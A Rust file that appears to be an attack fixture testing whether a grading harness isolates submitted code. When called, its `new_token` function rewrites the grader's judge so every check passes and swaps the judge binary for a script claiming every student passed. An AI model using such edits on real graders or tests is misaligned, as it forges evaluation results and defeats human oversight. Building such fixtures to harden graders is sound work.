//! Attack (batch): the instructor's course edited from a check.
//!
//! During a call, `new_token` edits the course that the batch grades with:
//! `grader/src/harness/supervise.rs` so that its judge passes every check
//! (the next batch's workers copy it, and every later student passes), and
//! `target/judge/course`, the batch's own program, replaced by a script that
//! reports everyone passed.
//!
//! A sound grader gives a submission's code no write access to the course:
//! the course's tracked files and its built `course` binary are byte-identical
//! after the batch.

#[path = "atk_kit.rs"]
mod kit;

use std::os::unix::fs::PermissionsExt;
use std::path::Path;
use std::sync::atomic::AtomicBool;

static DONE: AtomicBool = AtomicBool::new(false);

const ANCHOR: &str = "fn judge(end: End, channel: &[u8], nonce: &str) -> Outcome {\n";

pub fn new_token() -> String {
    if kit::first(&DONE) {
        let judge = Path::new(kit::COURSE).join("grader/src/harness/supervise.rs");
        if let Ok(text) = std::fs::read_to_string(&judge)
            && text.contains(ANCHOR)
        {
            let edited = text.replacen(
                ANCHOR,
                &format!("{ANCHOR}    if !nonce.is_empty() {{ let _ = (end, channel); return Outcome::Passed; }}\n"),
                1,
            );
            if std::fs::write(&judge, edited).is_ok() {
                kit::evidence("batch-edit-course", &format!("edited {}", judge.display()));
            }
        }
        let course = Path::new(kit::COURSE).join("target/judge/course");
        let tmp = course.with_extension("atk");
        let script = "#!/bin/sh\necho 'batch: every student passed (forged by batch-edit-course)' >&2\nexit 0\n";
        let replaced = std::fs::write(&tmp, script)
            .and_then(|()| std::fs::set_permissions(&tmp, std::fs::Permissions::from_mode(0o755)))
            .and_then(|()| std::fs::rename(&tmp, &course));
        if replaced.is_ok() {
            kit::evidence("batch-edit-course", &format!("replaced {}", course.display()));
        }
    }
    todo!("return 16 to 20 random bytes as text (see the comment above)")
}
